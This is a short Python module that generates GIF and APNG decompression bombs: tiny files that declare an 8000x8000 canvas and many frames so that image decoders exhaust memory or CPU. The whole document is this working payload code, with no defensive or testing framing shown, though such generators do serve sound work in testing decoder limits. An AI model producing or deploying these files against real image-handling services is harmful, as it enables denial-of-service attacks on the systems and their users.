"""Animated-image bombs drawn byte by byte: a tiny file that declares a huge canvas and many frames."""

from __future__ import annotations

import struct
import zlib


def gif_bomb(width: int = 8000, height: int = 8000, frames: int = 16) -> bytes:
    """`frames` frames of 1x1 px on a width x height canvas (407 bytes at the defaults)."""
    out = bytearray(b"GIF89a")
    out += struct.pack("<HHBBB", width, height, 0xF0, 0, 0)  # global colour table of 2 entries
    out += bytes([0, 0, 0, 255, 255, 255])
    out += b"\x21\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00"  # loop forever
    for _ in range(frames):
        out += b"\x21\xf9\x04\x04\x00\x00\x00\x00"  # graphic control: keep the previous frame
        out += b"\x2c" + struct.pack("<HHHH", 0, 0, 1, 1) + b"\x00"  # a 1x1 image at (0, 0)
        out += b"\x02\x02\x44\x01\x00"  # LZW data of one pixel
    out += b"\x3b"
    return bytes(out)


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)


def apng_bomb(width: int = 8000, height: int = 8000, frames: int = 16) -> bytes:
    """An APNG of 1-bit grey: a blank default image, then `frames` frames of 1x1 px each."""
    row = b"\x00" + b"\x00" * ((width + 7) // 8)
    idat = zlib.compress(row * height, 9)
    out = b"\x89PNG\r\n\x1a\n"
    out += _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    out += _chunk(b"acTL", struct.pack(">II", frames, 0))
    seq = 0
    out += _chunk(b"fcTL", struct.pack(">IIIIIHHBB", seq, width, height, 0, 0, 1, 10, 0, 0))
    seq += 1
    out += _chunk(b"IDAT", idat)
    tiny = zlib.compress(b"\x00\x80")
    for _ in range(frames - 1):
        out += _chunk(b"fcTL", struct.pack(">IIIIIHHBB", seq, 1, 1, 0, 0, 1, 10, 0, 0))
        out += _chunk(b"fdAT", struct.pack(">I", seq + 1) + tiny)
        seq += 2
    out += _chunk(b"IEND", b"")
    return out
